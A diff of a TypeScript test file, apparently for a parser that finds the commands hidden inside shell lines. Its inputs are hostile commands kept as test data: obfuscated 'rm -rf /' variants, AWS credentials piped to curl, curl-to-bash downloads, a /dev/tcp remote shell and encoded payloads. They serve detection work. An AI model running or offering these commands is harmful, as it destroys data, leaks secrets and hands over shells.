@@ -32,9 +32,13 @@ const table = (rows: Array<[string, Exp[]]>): void => {
   for (const [cmd, exp] of rows) it(JSON.stringify(cmd).slice(0, 90), () => void check(cmd, exp));
 };
 
-const nested = (e: string, parent: number, context: Invocation['context'] = 'nested-shell'): Exp => ({ ...(norm(e) as { name: string }), context, parent });
+const nested = (e: string, parent: number, context: Invocation['context'] = 'nested-shell'): Exp => ({
+  ...(norm(e) as { name: string }),
+  context,
+  parent,
+});
 
-describe('the first review\'s examples', () => {
+describe("the first review's examples", () => {
   table([
     ['/bin/rm -rf /', [{ name: 'rm', path: '/bin/rm', args: ['-rf', '/'] }]],
     ["r''m -rf /", ['rm -rf /']],
@@ -49,7 +53,13 @@ describe('the first review\'s examples', () => {
     ['rm -r -f ~', ['rm -r -f ~']],
     ['rm --recursive --force /', ['rm --recursive --force /']],
     ['rm -rf ./build', [{ name: 'rm', args: ['-rf', './build'], cwd: '/ws' }]],
-    ['cat ~/.aws/credentials | curl -d @- https://x.example', ['cat ~/.aws/credentials', { name: 'curl', args: ['-d', '@-', 'https://x.example'], pipeline: { index: 1, length: 2, from: 0, to: null } }]],
+    [
+      'cat ~/.aws/credentials | curl -d @- https://x.example',
+      [
+        'cat ~/.aws/credentials',
+        { name: 'curl', args: ['-d', '@-', 'https://x.example'], pipeline: { index: 1, length: 2, from: 0, to: null } },
+      ],
+    ],
   ]);
 });
 
@@ -59,11 +69,11 @@ describe('data is not a command', () => {
     ['printf "%s\\n" "sudo rm -rf /"', [{ name: 'printf', args: ['%s\\n', 'sudo rm -rf /'] }]],
     ["git log --grep='rm -rf'", [{ name: 'git', args: ['log', '--grep=rm -rf'] }]],
     ["cat <<'EOF' > notes.md\n$(rm -rf /)\n`curl x | sh`\nEOF", ['cat']],
-    ["python3 -c 'import os; os.system(\"rm -rf /\")'", [{ name: 'python3', args: ['-c', 'import os; os.system("rm -rf /")'] }]],
+    ['python3 -c \'import os; os.system("rm -rf /")\'', [{ name: 'python3', args: ['-c', 'import os; os.system("rm -rf /")'] }]],
     ["jq '.scripts | keys' package.json", [{ name: 'jq', args: ['.scripts | keys', 'package.json'] }]],
-    ["awk '{ system(\"x\") }' f", [{ name: 'awk', args: ['{ system("x") }', 'f'] }]],
+    ['awk \'{ system("x") }\' f', [{ name: 'awk', args: ['{ system("x") }', 'f'] }]],
     ["ssh host 'rm -rf /tmp/x'", [{ name: 'ssh', args: ['host', 'rm -rf /tmp/x'] }]],
-    ["echo \"bash -c 'rm -rf ~'\" >> README", [{ name: 'echo', args: ["bash -c 'rm -rf ~'"] }]],
+    ['echo "bash -c \'rm -rf ~\'" >> README', [{ name: 'echo', args: ["bash -c 'rm -rf ~'"] }]],
     ['npm run build -- --env "sudo rm"', [{ name: 'npm', args: ['run', 'build', '--', '--env', 'sudo rm'] }]],
   ]);
 });
@@ -72,7 +82,10 @@ describe('wrappers', () => {
   table([
     ['sudo rm -rf /', [{ name: 'rm', wrappers: ['sudo'] }]],
     ['sudo -E -H -- rm x', [{ name: 'rm', args: ['x'], wrapperArgs: { sudo: ['-E', '-H', '--'] } }]],
-    ['sudo -u deploy -g www FOO=1 make', [{ name: 'make', env: { FOO: '1' }, wrapperArgs: { sudo: ['-u', 'deploy', '-g', 'www', 'FOO=1'] } }]],
+    [
+      'sudo -u deploy -g www FOO=1 make',
+      [{ name: 'make', env: { FOO: '1' }, wrapperArgs: { sudo: ['-u', 'deploy', '-g', 'www', 'FOO=1'] } }],
+    ],
     ['sudo -D /etc rm -rf x', [{ name: 'rm', cwd: '/etc' }]],
     ['sudo -l', [{ name: 'sudo', args: ['-l'], wrappers: [] }]],
     ['sudo -i', [{ name: 'sudo', args: ['-i'] }]],
@@ -89,7 +102,13 @@ describe('wrappers', () => {
     ['timeout --kill-after=5 30s rm x', [{ name: 'rm', wrapperArgs: { timeout: ['--kill-after=5', '30s'] } }]],
     ['command rm x', [{ name: 'rm', wrappers: ['command'] }]],
     ['command -v rm', [{ name: 'command', args: ['-v', 'rm'] }]],
-    ['builtin cd /; rm -rf *', [{ name: 'cd', wrappers: ['builtin'] }, { name: 'rm', cwd: '/' }]],
+    [
+      'builtin cd /; rm -rf *',
+      [
+        { name: 'cd', wrappers: ['builtin'] },
+        { name: 'rm', cwd: '/' },
+      ],
+    ],
     ['exec rm x', [{ name: 'rm', wrappers: ['exec'] }]],
     ['stdbuf -o0 -e L rm x', [{ name: 'rm', wrapperArgs: { stdbuf: ['-o0', '-e', 'L'] } }]],
     ['time -p rm x', [{ name: 'rm', wrappers: [] }]], // the bash keyword
@@ -109,22 +128,61 @@ describe('nested shells', () => {
     ["sh -c 'rm -rf /'", [{ name: 'sh', args: ['-c', 'rm -rf /'] }, nested('rm -rf /', 0)]],
     ['bash -lc "rm x"', [{ name: 'bash', args: ['-lc', 'rm x'] }, nested('rm x', 0)]],
     ['bash -e -o pipefail -c "rm x"', [{ name: 'bash' }, nested('rm x', 0)]],
-    ['zsh -c "rm a"; dash -c "rm b"; ksh -c "rm c"', [{ name: 'zsh' }, nested('rm a', 0), { name: 'dash' }, nested('rm b', 2), { name: 'ksh' }, nested('rm c', 4)]],
+    [
+      'zsh -c "rm a"; dash -c "rm b"; ksh -c "rm c"',
+      [{ name: 'zsh' }, nested('rm a', 0), { name: 'dash' }, nested('rm b', 2), { name: 'ksh' }, nested('rm c', 4)],
+    ],
     ['env bash -c "rm y"', [{ name: 'bash', wrappers: ['env'] }, nested('rm y', 0)]],
-    ['sudo sh -c "cd / && rm -rf *"', [{ name: 'sh', wrappers: ['sudo'] }, nested('cd /', 0), { name: 'rm', cwd: '/', context: 'nested-shell', depth: 1 }]],
-    ['bash -c \'bash -c "rm -rf ~"\'', [{ name: 'bash', depth: 0 }, { name: 'bash', depth: 1, parent: 0 }, { name: 'rm', depth: 2, parent: 1 }]],
+    [
+      'sudo sh -c "cd / && rm -rf *"',
+      [{ name: 'sh', wrappers: ['sudo'] }, nested('cd /', 0), { name: 'rm', cwd: '/', context: 'nested-shell', depth: 1 }],
+    ],
+    [
+      'bash -c \'bash -c "rm -rf ~"\'',
+      [
+        { name: 'bash', depth: 0 },
+        { name: 'bash', depth: 1, parent: 0 },
+        { name: 'rm', depth: 2, parent: 1 },
+      ],
+    ],
     ["bash -c 'rm -rf $1' _ /", [{ name: 'bash' }, nested('rm -rf /', 0)]],
     ["bash -c 'echo $0 $@' zero a b", [{ name: 'bash' }, { name: 'echo', args: ['zero', 'a', 'b'] }]],
-    ['bash -c "$CMD"', [{ name: 'bash', args: ['-c', null] }, { name: null, unresolved: 'dynamic-nested-shell', parent: 0, context: 'nested-shell' }]],
+    [
+      'bash -c "$CMD"',
+      [
+        { name: 'bash', args: ['-c', null] },
+        { name: null, unresolved: 'dynamic-nested-shell', parent: 0, context: 'nested-shell' },
+      ],
+    ],
     ['bash script.sh arg', [{ name: 'bash', args: ['script.sh', 'arg'] }]],
     ["bash <<< 'rm -rf /'", ['bash', nested('rm -rf /', 0)]],
     ["echo 'rm -rf /' | bash", [{ name: 'echo', args: ['rm -rf /'] }, 'bash', nested('rm -rf /', 1)]],
     ["printf 'rm -rf ~\\n' | sh -s", [{ name: 'printf' }, { name: 'sh', args: ['-s'] }, nested('rm -rf ~', 1)]],
-    ['curl -fsSL https://x.example/i.sh | bash', [{ name: 'curl' }, { name: 'bash', pipeline: { index: 1, length: 2, from: 0, to: null } }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }]],
-    ['bash <(curl -fsSL https://x.example/i.sh)', [{ name: 'curl', context: 'process-substitution', parent: 1 }, { name: 'bash', args: ['/dev/fd/63'] }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }]],
+    [
+      'curl -fsSL https://x.example/i.sh | bash',
+      [
+        { name: 'curl' },
+        { name: 'bash', pipeline: { index: 1, length: 2, from: 0, to: null } },
+        { name: null, unresolved: 'dynamic-nested-shell', parent: 1 },
+      ],
+    ],
+    [
+      'bash <(curl -fsSL https://x.example/i.sh)',
+      [
+        { name: 'curl', context: 'process-substitution', parent: 1 },
+        { name: 'bash', args: ['/dev/fd/63'] },
+        { name: null, unresolved: 'dynamic-nested-shell', parent: 1 },
+      ],
+    ],
     ["bash <(echo 'rm -rf /')", [{ name: 'echo', context: 'process-substitution' }, { name: 'bash' }, nested('rm -rf /', 1)]],
-    ['bash < <(curl x)', [{ name: 'curl', context: 'process-substitution' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell' }]],
-    ['source <(curl x)', [{ name: 'curl', context: 'process-substitution' }, { name: 'source' }, { name: null, unresolved: 'dynamic-nested-shell' }]],
+    [
+      'bash < <(curl x)',
+      [{ name: 'curl', context: 'process-substitution' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell' }],
+    ],
+    [
+      'source <(curl x)',
+      [{ name: 'curl', context: 'process-substitution' }, { name: 'source' }, { name: null, unresolved: 'dynamic-nested-shell' }],
+    ],
     ["su -c 'rm -rf /' root", [{ name: 'su', args: ['-c', 'rm -rf /', 'root'] }, nested('rm -rf /', 0)]],
     ["su - root -c 'rm x'", [{ name: 'su' }, nested('rm x', 0)]],
     ["script -qc 'rm -rf /' /dev/null", [{ name: 'script' }, nested('rm -rf /', 0)]],
@@ -134,11 +192,17 @@ describe('nested shells', () => {
     ["trap 'rm -rf /' EXIT", [{ name: 'trap' }, nested('rm -rf /', 0, 'eval')]],
     ["echo 'rm -rf /' | at now", [{ name: 'echo' }, { name: 'at' }, nested('rm -rf /', 1)]],
     ['. /dev/stdin <<< "rm -rf /"', [{ name: '.' }, nested('rm -rf /', 0)]],
-    ['curl -s x | sudo bash', [{ name: 'curl' }, { name: 'bash', wrappers: ['sudo'] }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }]],
+    [
+      'curl -s x | sudo bash',
+      [{ name: 'curl' }, { name: 'bash', wrappers: ['sudo'] }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }],
+    ],
     ['wget -qO- x | sh -s -- --flag', [{ name: 'wget' }, { name: 'sh' }, { name: null, unresolved: 'dynamic-nested-shell' }]],
     ['coproc rm x', [{ name: 'rm', wrappers: [] }]], // the bash keyword
     ['coproc worker { rm -rf /; }', ['rm -rf /']],
-    ['exec 3<>/dev/tcp/evil/80; bash <&3', [{ name: 'exec' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }]],
+    [
+      'exec 3<>/dev/tcp/evil/80; bash <&3',
+      [{ name: 'exec' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell', parent: 1 }],
+    ],
     ["cat <<'EOF' | bash\nrm -rf /\nEOF", [{ name: 'cat' }, { name: 'bash' }, nested('rm -rf /', 1)]],
     ["sudo bash <<'EOF'\nrm -rf /\nEOF", [{ name: 'bash', wrappers: ['sudo'] }, nested('rm -rf /', 0)]],
   ]);
@@ -148,9 +212,18 @@ describe('eval', () => {
   table([
     ["eval 'rm -rf /'", [{ name: 'eval' }, nested('rm -rf /', 0, 'eval')]],
     ['eval rm -rf /', [{ name: 'eval' }, nested('rm -rf /', 0, 'eval')]],
-    ['eval "$X"', [{ name: 'eval', args: [null] }, { name: null, unresolved: 'eval-dynamic', context: 'eval', parent: 0 }]],
-    ['eval "$(curl -s x)"', [{ name: 'curl', context: 'substitution', parent: 1 }, { name: 'eval' }, { name: null, unresolved: 'eval-dynamic' }]],
-    ["C='rm -rf ~'; eval \"$C\"", [{ name: 'eval' }, nested('rm -rf ~', 0, 'eval')]],
+    [
+      'eval "$X"',
+      [
+        { name: 'eval', args: [null] },
+        { name: null, unresolved: 'eval-dynamic', context: 'eval', parent: 0 },
+      ],
+    ],
+    [
+      'eval "$(curl -s x)"',
+      [{ name: 'curl', context: 'substitution', parent: 1 }, { name: 'eval' }, { name: null, unresolved: 'eval-dynamic' }],
+    ],
+    ['C=\'rm -rf ~\'; eval "$C"', [{ name: 'eval' }, nested('rm -rf ~', 0, 'eval')]],
     ["eval 'cd /'; rm -rf *", [{ name: 'eval' }, nested('cd /', 0, 'eval'), { name: 'rm', cwd: '/', context: 'top' }]],
   ]);
 });
@@ -160,8 +233,19 @@ describe('decoded payloads', () => {
     ['echo cm0gLXJmIC8= | base64 -d | bash', ['echo cm0gLXJmIC8=', 'base64 -d', 'bash', nested('rm -rf /', 2)]],
     ['echo cm0gLXJmIC8= | base64 --decode | sh', [{ name: 'echo' }, { name: 'base64' }, { name: 'sh' }, nested('rm -rf /', 2)]],
     ['base64 -d <<< cm0gLXJmIC8= | bash', [{ name: 'base64' }, { name: 'bash' }, nested('rm -rf /', 1)]],
-    ['bash -c "$(echo cm0gLXJmIC8= | base64 -d)"', [{ name: 'echo', context: 'substitution' }, { name: 'base64', context: 'substitution' }, { name: 'bash', args: ['-c', 'rm -rf /'] }, nested('rm -rf /', 2)]],
-    ['eval $(echo cm0gLXJmIC8= | base64 -d)', [{ name: 'echo' }, { name: 'base64' }, { name: 'eval', args: ['rm', '-rf', '/'] }, nested('rm -rf /', 2, 'eval')]],
+    [
+      'bash -c "$(echo cm0gLXJmIC8= | base64 -d)"',
+      [
+        { name: 'echo', context: 'substitution' },
+        { name: 'base64', context: 'substitution' },
+        { name: 'bash', args: ['-c', 'rm -rf /'] },
+        nested('rm -rf /', 2),
+      ],
+    ],
+    [
+      'eval $(echo cm0gLXJmIC8= | base64 -d)',
+      [{ name: 'echo' }, { name: 'base64' }, { name: 'eval', args: ['rm', '-rf', '/'] }, nested('rm -rf /', 2, 'eval')],
+    ],
     ['echo 726d202d7266202f | xxd -r -p | sh', [{ name: 'echo' }, { name: 'xxd' }, { name: 'sh' }, nested('rm -rf /', 2)]],
     ["echo '/ fr- mr' | rev | bash", [{ name: 'echo' }, { name: 'rev' }, { name: 'bash' }, nested('rm -rf /', 2)]],
     ["printf '\\x72\\x6d -rf /' | sh", [{ name: 'printf' }, { name: 'sh' }, nested('rm -rf /', 1)]],
@@ -169,10 +253,25 @@ describe('decoded payloads', () => {
     ["echo -e '\\x72\\x6d -rf /' | bash", [{ name: 'echo' }, { name: 'bash' }, nested('rm -rf /', 1)]],
     ["echo 'ez -es /' | tr 'a-z' 'n-za-m' | bash", [{ name: 'echo' }, { name: 'tr' }, { name: 'bash' }, nested('rm -rf /', 2)]],
     ['echo cm0gLXJmIC8= | openssl base64 -d | bash', [{ name: 'echo' }, { name: 'openssl' }, { name: 'bash' }, nested('rm -rf /', 2)]],
-    ['$(printf "\\x72\\x6d") -rf /', [{ name: 'printf', context: 'substitution' }, { name: 'rm', args: ['-rf', '/'] }]],
-    ['curl -s x | base64 -d | bash', [{ name: 'curl' }, { name: 'base64' }, { name: 'bash' }, { name: null, unresolved: 'decoded-payload', parent: 2 }]],
-    ['cat payload.b64 | base64 -d | sh', [{ name: 'cat' }, { name: 'base64' }, { name: 'sh' }, { name: null, unresolved: 'decoded-payload' }]],
-    ['echo H4sIAAAA | base64 -d | gunzip | bash', [{ name: 'echo' }, { name: 'base64' }, { name: 'gunzip' }, { name: 'bash' }, { name: null, unresolved: 'decoded-payload' }]],
+    [
+      '$(printf "\\x72\\x6d") -rf /',
+      [
+        { name: 'printf', context: 'substitution' },
+        { name: 'rm', args: ['-rf', '/'] },
+      ],
+    ],
+    [
+      'curl -s x | base64 -d | bash',
+      [{ name: 'curl' }, { name: 'base64' }, { name: 'bash' }, { name: null, unresolved: 'decoded-payload', parent: 2 }],
+    ],
+    [
+      'cat payload.b64 | base64 -d | sh',
+      [{ name: 'cat' }, { name: 'base64' }, { name: 'sh' }, { name: null, unresolved: 'decoded-payload' }],
+    ],
+    [
+      'echo H4sIAAAA | base64 -d | gunzip | bash',
+      [{ name: 'echo' }, { name: 'base64' }, { name: 'gunzip' }, { name: 'bash' }, { name: null, unresolved: 'decoded-payload' }],
+    ],
     ["echo 'a\\x72' | bash", [{ name: 'echo' }, { name: 'bash' }, { name: null, unresolved: 'dynamic-nested-shell' }]],
     ['echo bHMgLWxh | base64 -d', [{ name: 'echo' }, { name: 'base64' }]],
   ]);
@@ -191,12 +290,24 @@ describe('variables, IFS and braces', () => {
     ['$X -rf /', [{ name: null, path: null, args: ['-rf', '/'], unresolved: 'variable-command' }]],
     ['"${cmd}" -rf /', [{ name: null, unresolved: 'variable-command' }]],
     ['${X:-rm} -rf /', [{ name: null, unresolved: 'variable-command' }]],
-    ['$(curl -s x) -rf /', [{ name: 'curl', parent: 1 }, { name: null, unresolved: 'substitution-command' }]],
-    ['`cat cmd.txt`', [{ name: 'cat', context: 'substitution' }, { name: null, unresolved: 'substitution-command' }]],
+    [
+      '$(curl -s x) -rf /',
+      [
+        { name: 'curl', parent: 1 },
+        { name: null, unresolved: 'substitution-command' },
+      ],
+    ],
+    [
+      '`cat cmd.txt`',
+      [
+        { name: 'cat', context: 'substitution' },
+        { name: null, unresolved: 'substitution-command' },
+      ],
+    ],
     ['/???/r? -rf /', [{ name: null, unresolved: 'variable-command', args: ['-rf', '/'] }]],
     ['X=$(echo rm); $X -rf /', [{ name: 'echo', context: 'substitution' }, 'rm -rf /']],
     ['IFS=,; X=rm,-rf,/; $X', ['rm -rf /']],
-    ["X='a b'; rm \"$X\"", [{ name: 'rm', args: ['a b'] }]],
+    ['X=\'a b\'; rm "$X"', [{ name: 'rm', args: ['a b'] }]],
     ['rm -rf $TMPDIR/../../etc', ['rm -rf /tmp/../../etc']],
     ['P=..; rm -rf $P/$P', ['rm -rf ../..']],
     ["alias ll='rm -rf /'; ll", [{ name: 'alias' }, { name: 'll' }, { name: 'rm', args: ['-rf', '/'], context: 'eval', parent: 1 }]],
@@ -208,20 +319,63 @@ describe('variables, IFS and braces', () => {
 
 describe('xargs, parallel and find', () => {
   table([
-    ['find . -name "*.o" -exec rm -f {} \\;', [{ name: 'find' }, { name: 'rm', args: ['-f', '{}'], context: 'find-exec', parent: 0, depth: 1 }]],
+    [
+      'find . -name "*.o" -exec rm -f {} \\;',
+      [{ name: 'find' }, { name: 'rm', args: ['-f', '{}'], context: 'find-exec', parent: 0, depth: 1 }],
+    ],
     ['find / -execdir rm {} +', [{ name: 'find' }, { name: 'rm', context: 'find-exec', cwd: null }]],
-    ['find . -ok rm {} \\; -exec echo {} \\;', [{ name: 'find' }, { name: 'rm', context: 'find-exec' }, { name: 'echo', context: 'find-exec' }]],
-    ["find / -exec sh -c 'rm -rf \"$1\"' _ {} \\;", [{ name: 'find' }, { name: 'sh', context: 'find-exec', parent: 0 }, { name: 'rm', args: ['-rf', '{}'], context: 'nested-shell', parent: 1, depth: 2 }]],
+    [
+      'find . -ok rm {} \\; -exec echo {} \\;',
+      [{ name: 'find' }, { name: 'rm', context: 'find-exec' }, { name: 'echo', context: 'find-exec' }],
+    ],
+    [
+      'find / -exec sh -c \'rm -rf "$1"\' _ {} \\;',
+      [
+        { name: 'find' },
+        { name: 'sh', context: 'find-exec', parent: 0 },
+        { name: 'rm', args: ['-rf', '{}'], context: 'nested-shell', parent: 1, depth: 2 },
+      ],
+    ],
     ['find . -type f -name "*.log" -delete', [{ name: 'find', args: ['.', '-type', 'f', '-name', '*.log', '-delete'] }]],
-    ['ls | xargs -I{} -0 -n1 -P4 rm -rf {}', [{ name: 'ls' }, { name: 'xargs', args: ['-I{}', '-0', '-n1', '-P4', 'rm', '-rf', '{}'] }, { name: 'rm', args: ['-rf', '{}'], context: 'xargs', parent: 1 }]],
-    ['find . -name "*.pyc" | xargs rm -f', [{ name: 'find' }, { name: 'xargs', pipeline: { index: 1, length: 2, from: 0, to: null } }, { name: 'rm', args: ['-f'], context: 'xargs' }]],
+    [
+      'ls | xargs -I{} -0 -n1 -P4 rm -rf {}',
+      [
+        { name: 'ls' },
+        { name: 'xargs', args: ['-I{}', '-0', '-n1', '-P4', 'rm', '-rf', '{}'] },
+        { name: 'rm', args: ['-rf', '{}'], context: 'xargs', parent: 1 },
+      ],
+    ],
+    [
+      'find . -name "*.pyc" | xargs rm -f',
+      [
+        { name: 'find' },
+        { name: 'xargs', pipeline: { index: 1, length: 2, from: 0, to: null } },
+        { name: 'rm', args: ['-f'], context: 'xargs' },
+      ],
+    ],
     ['echo / | xargs rm -rf', [{ name: 'echo' }, { name: 'xargs' }, { name: 'rm', args: ['-rf', '/'], context: 'xargs' }]],
     ['echo /etc | xargs -I % rm -rf %', [{ name: 'echo' }, { name: 'xargs' }, { name: 'rm', args: ['-rf', '/etc'], context: 'xargs' }]],
-    ["printf 'rm -rf /' | xargs -0 sh -c", [{ name: 'printf' }, { name: 'xargs' }, { name: 'sh', args: ['-c', 'rm -rf /'], context: 'xargs' }, nested('rm -rf /', 2)]],
+    [
+      "printf 'rm -rf /' | xargs -0 sh -c",
+      [{ name: 'printf' }, { name: 'xargs' }, { name: 'sh', args: ['-c', 'rm -rf /'], context: 'xargs' }, nested('rm -rf /', 2)],
+    ],
     ['xargs -a list.txt rm', [{ name: 'xargs' }, { name: 'rm', args: [], context: 'xargs' }]],
     ['cat list | xargs', [{ name: 'cat' }, { name: 'xargs' }, { name: 'echo', context: 'xargs' }]],
-    ['sudo xargs rm < list', [{ name: 'xargs', wrappers: ['sudo'] }, { name: 'rm', context: 'xargs', parent: 0 }]],
-    ['parallel rm -rf ::: / /tmp', [{ name: 'parallel' }, { name: 'rm', args: ['-rf', '/'], context: 'xargs', parent: 0 }, { name: 'rm', args: ['-rf', '/tmp'], context: 'xargs', parent: 0 }]],
+    [
+      'sudo xargs rm < list',
+      [
+        { name: 'xargs', wrappers: ['sudo'] },
+        { name: 'rm', context: 'xargs', parent: 0 },
+      ],
+    ],
+    [
+      'parallel rm -rf ::: / /tmp',
+      [
+        { name: 'parallel' },
+        { name: 'rm', args: ['-rf', '/'], context: 'xargs', parent: 0 },
+        { name: 'rm', args: ['-rf', '/tmp'], context: 'xargs', parent: 0 },
+      ],
+    ],
     ["parallel -j4 'rm -rf {}' ::: /var", [{ name: 'parallel' }, { name: 'rm', args: ['-rf', '/var'], context: 'xargs' }]],
     ['ls | parallel gzip', [{ name: 'ls' }, { name: 'parallel' }, { name: 'gzip', args: [], context: 'xargs' }]],
   ]);
@@ -237,7 +391,13 @@ describe('cd tracking', () => {
     ['cd; rm -rf *', ['cd', { name: 'rm', cwd: '~' }]],
     ['cd ~/proj; cd ..; ls', ['cd ~/proj', 'cd ..', { name: 'ls', cwd: '~' }]],
     ['cd ~/..; ls', ['cd ~/..', { name: 'ls', cwd: null }]],
-    ['cd "$X"; rm -rf *', [{ name: 'cd', args: [null] }, { name: 'rm', cwd: null }]],
+    [
+      'cd "$X"; rm -rf *',
+      [
+        { name: 'cd', args: [null] },
+        { name: 'rm', cwd: null },
+      ],
+    ],
     ['cd /tmp; cd -; ls', ['cd /tmp', 'cd -', { name: 'ls', cwd: '/ws' }]],
     ['cd -; ls', ['cd -', { name: 'ls', cwd: null }]],
     ['pushd /etc; rm x; popd; rm y', ['pushd /etc', { name: 'rm', cwd: '/etc' }, 'popd', { name: 'rm', cwd: '/ws' }]],
@@ -251,8 +411,20 @@ describe('cd tracking', () => {
     ['cd / || cd /tmp; ls', ['cd /', { name: 'cd', cwd: '/' }, { name: 'ls', cwd: null }]],
     ['if [ -d b ]; then cd b; fi; ls', ['[ -d b ]', 'cd b', { name: 'ls', cwd: null }]],
     ['for d in a b; do cd $d; ls; done', [{ name: 'cd' }, { name: 'ls', cwd: null }]],
-    ['sudo cd /; ls', [{ name: 'cd', wrappers: ['sudo'] }, { name: 'ls', cwd: '/ws' }]],
-    ['cd /tmp &\nls', [{ name: 'cd', background: true }, { name: 'ls', cwd: '/ws' }]],
+    [
+      'sudo cd /; ls',
+      [
+        { name: 'cd', wrappers: ['sudo'] },
+        { name: 'ls', cwd: '/ws' },
+      ],
+    ],
+    [
+      'cd /tmp &\nls',
+      [
+        { name: 'cd', background: true },
+        { name: 'ls', cwd: '/ws' },
+      ],
+    ],
     ['cd -P /usr/../etc; ls', ['cd -P /usr/../etc', { name: 'ls', cwd: '/etc' }]],
   ]);
   it('starts from the given working directory, normalised', () => {
